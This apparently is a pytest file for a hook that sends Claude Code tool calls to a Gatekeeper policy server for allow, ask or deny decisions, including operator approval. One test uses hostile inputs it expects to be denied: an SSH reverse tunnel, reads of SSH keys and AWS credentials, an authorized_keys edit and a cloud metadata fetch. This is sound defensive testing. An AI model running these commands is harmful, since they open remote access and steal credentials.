"""`gatekeeper hook claude-code`: real PreToolUse events piped through the command, against a
running Gatekeeper on loopback."""

from __future__ import annotations

import asyncio
import json
import socket
import sys
from pathlib import Path
from typing import Any

import aiohttp

from gatekeeper.app import Gatekeeper

from .helpers import mint, ops_auth, vote

PROJECT = "/home/dev/project"


def event(tool_name: str, tool_input: dict[str, Any], cwd: str = PROJECT) -> dict[str, Any]:
    """A PreToolUse event as Claude Code writes it on the hook's stdin."""
    return {
        "session_id": "5f6c1c1e-3d2a-4c57-9f0e-2b3a4c5d6e7f",
        "transcript_path": "/home/dev/.claude/projects/project/session.jsonl",
        "cwd": cwd,
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool_name,
        "tool_input": tool_input,
        "tool_use_id": "toolu_01ABCDEF",
    }


async def hook(
    payload: Any, env: dict[str, str], *args: str, raw: bytes | None = None
) -> tuple[int, dict[str, Any] | None, str]:
    """Run the hook as Claude Code does; (exit status, parsed stdout or None, stderr)."""
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "gatekeeper",
        "hook",
        "claude-code",
        *args,
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": ":".join(sys.path), **env},
    )
    out, err = await proc.communicate(raw if raw is not None else json.dumps(payload).encode())
    assert proc.returncode is not None
    return proc.returncode, json.loads(out) if out.strip() else None, err.decode()


def decision(result: tuple[int, dict[str, Any] | None, str]) -> tuple[str, str]:
    status, out, err = result
    assert status == 0 and out is not None, (status, err)
    spec = out["hookSpecificOutput"]
    assert spec["hookEventName"] == "PreToolUse"
    return spec["permissionDecision"], spec["permissionDecisionReason"]


def env_for(gk: Gatekeeper, **extra: str) -> dict[str, str]:
    return {"GATEKEEPER_URL": gk.agent_url, "GATEKEEPER_TOKEN": mint(gk), **extra}


async def test_ordinary_work_is_allowed_and_attacks_are_denied_with_their_reason(gk: Gatekeeper) -> None:
    env = env_for(gk)
    allowed, why = decision(await hook(event("Bash", {"command": "git status", "description": "s"}), env))
    assert allowed == "allow" and "rule" in why
    # A file of the project is decided as the same file under the policy's /workspace.
    assert decision(await hook(event("Read", {"file_path": f"{PROJECT}/README.md"}), env))[0] == "allow"
    assert decision(await hook(event("Glob", {"pattern": "**/*.py"}), env))[0] == "allow"

    tunnel = event("Bash", {"command": "git status && ssh -N -R 2222:localhost:22 u@203.0.113.7"})
    denied, why = decision(await hook(tunnel, env))
    assert denied == "deny" and "tunnel" in why and "policy_denied" in why

    for secret in ("/root/.ssh/id_rsa", "/home/dev/.aws/credentials"):
        denied, why = decision(await hook(event("Read", {"file_path": secret}), env))
        assert denied == "deny", why
    write = event("Edit", {"file_path": "/root/.ssh/authorized_keys", "old_string": "", "new_string": "k"})
    assert decision(await hook(write, env))[0] == "deny"
    fetch = event("WebFetch", {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "read"})
    assert decision(await hook(fetch, env))[0] == "deny"
    # An MCP tool is decided as Gatekeeper's tool of that name.
    assert decision(await hook(event("mcp__gatekeeper__file.read", {"path": "/root/.ssh/id_rsa"}), env))[
        0
    ] == ("deny")
    # Claude Code's own tools are not asked about.
    assert decision(await hook(event("TodoWrite", {"todos": []}), env))[0] == "allow"
    assert gk.demo is not None and gk.demo.http_received == []  # deciding never runs anything


async def test_an_escalation_is_ask_interactively_and_held_then_allowed_headless(
    gk: Gatekeeper, http: aiohttp.ClientSession
) -> None:
    kubectl = event("Bash", {"command": "kubectl get pods"})
    asked, why = decision(await hook(kubectl, env_for(gk)))
    assert asked == "ask" and "cloud and cluster CLIs" in why and "apr_" in why

    other = event("Bash", {"command": "kubectl get nodes"})
    headless = env_for(gk, GATEKEEPER_HOOK_ESCALATE="hold")
    held = asyncio.create_task(hook(other, headless))
    approval_id = await _pending_for(http, gk, "nodes")
    assert not held.done()
    assert (await vote(http, gk, approval_id, "approve"))[0] == 200
    allowed, why = decision(await held)
    assert allowed == "allow" and "approved by ops-1" in why

    # Held and denied by an operator: the hook says so, with the comment.
    third = asyncio.create_task(hook(event("Bash", {"command": "kubectl get svc"}), headless))
    approval_id = await _pending_for(http, gk, "svc")
    assert (await vote(http, gk, approval_id, "deny", comment="not on prod"))[0] == 200
    denied, why = decision(await third)
    assert denied == "deny" and "not on prod" in why
    # Nobody to ask in headless use: an unmapped tool is refused.
    denied, why = decision(await hook(event("WebSearch", {"query": "x"}), headless))
    assert denied == "deny" and "no mapping" in why


async def _pending_for(http: aiohttp.ClientSession, gk: Gatekeeper, needle: str) -> str:
    """The pending approval whose command contains ``needle``, once it appears."""
    headers = ops_auth(gk)
    for _ in range(200):
        async with http.get(f"{gk.operator_url}/v1/approvals?state=pending", headers=headers) as resp:
            for a in (await resp.json())["approvals"]:
                if needle in a["arguments"].get("cmd", ""):
                    return str(a["id"])
        await asyncio.sleep(0.05)
    raise AssertionError(f"no pending approval for {needle}")


async def test_every_failure_blocks(gk: Gatekeeper, tmp_path: Path) -> None:
    git_status = event("Bash", {"command": "git status"})
    with socket.socket() as s:  # a loopback port nobody listens on
        s.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{s.getsockname()[1]}"
    status, out, err = await hook(git_status, {"GATEKEEPER_URL": closed, "GATEKEEPER_TOKEN": mint(gk)})
    assert status == 2 and out is None and "refused" in err
    denied, why = decision(
        await hook(git_status, {"GATEKEEPER_URL": gk.agent_url, "GATEKEEPER_TOKEN": "x.y.z"})
    )
    assert denied == "deny" and "could not decide" in why
    status, _, err = await hook(git_status, {})
    assert status == 2 and "GATEKEEPER_URL" in err
    status, _, err = await hook(None, env_for(gk), raw=b'{"tool_name": "Bash", "tool_name": "Read"}')
    assert status == 2 and "duplicate" in err.lower()
    status, _, err = await hook(None, env_for(gk), raw=b"not json")
    assert status == 2

    # A timeout is a refusal too: a server that accepts and never answers.
    async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await reader.read()  # until the hook gives up and closes
        finally:
            writer.close()

    server = await asyncio.start_server(silent, "127.0.0.1", 0)
    try:
        port = server.sockets[0].getsockname()[1]
        env = {"GATEKEEPER_URL": f"http://127.0.0.1:{port}", "GATEKEEPER_TOKEN": mint(gk)}
        status, _, err = await hook(git_status, env, "--timeout", "0.5")
        assert status == 2 and "timed out" in err.lower()
    finally:
        server.close()
        await server.wait_closed()


async def test_a_policy_author_extends_the_mapping(gk: Gatekeeper, tmp_path: Path) -> None:
    mapping = tmp_path / "tools.yaml"
    mapping.write_text(
        "tools:\n"
        "  ProvisionGPU:\n"
        "    tool: compute.provision\n"
        "    arguments: {gpu_type: kind, count: {const: 2}, hours: hours}\n"
    )
    gpus = event("ProvisionGPU", {"kind": "H100", "hours": 4})
    asked, why = decision(await hook(gpus, env_for(gk, GATEKEEPER_HOOK_TOOLS=str(mapping))))
    assert asked == "ask" and "GPU" in why
    # Without the mapping, the tool is unknown to the hook: ask (interactive).
    assert decision(await hook(gpus, env_for(gk)))[0] == "ask"
    bad = tmp_path / "bad.yaml"
    bad.write_text("tools:\n  X: {arguments: {}}\n")
    status, _, err = await hook(gpus, env_for(gk), "--tools", str(bad))
    assert status == 2 and "needs a 'tool'" in err
